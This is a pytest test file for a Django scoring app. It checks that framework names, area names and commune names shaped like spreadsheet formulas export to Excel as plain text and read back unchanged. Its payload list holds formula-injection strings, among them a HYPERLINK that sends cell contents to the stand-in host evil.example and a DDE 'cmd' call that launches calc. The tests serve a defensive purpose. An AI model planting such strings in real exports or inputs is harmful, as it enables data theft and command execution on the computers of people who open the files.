"""Text people typed never becomes a live formula in an exported workbook (framework download,
ranking export, statistics template), and it reads back as the same text."""

import io
import zipfile

import openpyxl
import pytest

from scoring.frameworks.workbook_read import document_from_workbook
from scoring.models import Framework
from tests.factories import framework_doc
from tests.helpers import recompute

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "@SUM(1)",
]


def _formulas(content: bytes) -> list[str]:
    """Every formula element in every sheet of the workbook."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def _texts(content: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def test_a_framework_named_like_a_formula_downloads_as_text_and_uploads_back_the_same(
    client, make_group, communes, district
):
    doc = framework_doc(code="F1")
    doc["name"] = PAYLOADS[0]
    doc["areas"][0]["name"] = PAYLOADS[1]
    doc["areas"][0]["sub_criteria"][0]["name"] = PAYLOADS[2]
    doc["bands"][0]["label"] = PAYLOADS[3]
    framework, period = make_group(doc)
    from tests.factories import MembershipFactory

    appraiser = MembershipFactory(unit=district, role="appraiser").user
    client.force_login(appraiser)
    response = client.get(f"/frameworks/{framework.pk}/download.xlsx")
    assert response.status_code == 200
    content = response.content
    assert _formulas(content) == []
    assert set(PAYLOADS) <= _texts(content)
    back = document_from_workbook(content)
    assert back["name"] == PAYLOADS[0]
    assert back["areas"][0]["name"] == PAYLOADS[1]
    assert back["areas"][0]["sub_criteria"][0]["name"] == PAYLOADS[2]
    assert back["bands"][0]["label"] == PAYLOADS[3]

    recompute(framework, period)
    export = client.get(f"/rankings/export.xlsx?group={district.code}&period={period.code}")
    assert export.status_code == 200, export.content[:200]
    assert _formulas(export.content) == []
    assert any(PAYLOADS[0] in text for text in _texts(export.content))
    assert Framework.objects.filter(name=PAYLOADS[0]).exists()


def test_a_commune_named_like_a_formula_stays_text_in_the_statistics_template(client, communes):
    from tests.factories import MembershipFactory

    commune = communes[0]
    commune.name = '=HYPERLINK("http://evil.example","Xã")'
    commune.save(update_fields=["name"])
    client.force_login(MembershipFactory(unit=commune, role="commune_officer").user)
    response = client.get(f"/dossiers/{commune.code}/template.xlsx?year=2024")
    assert response.status_code == 200
    assert _formulas(response.content) == []
    assert commune.name in _texts(response.content)
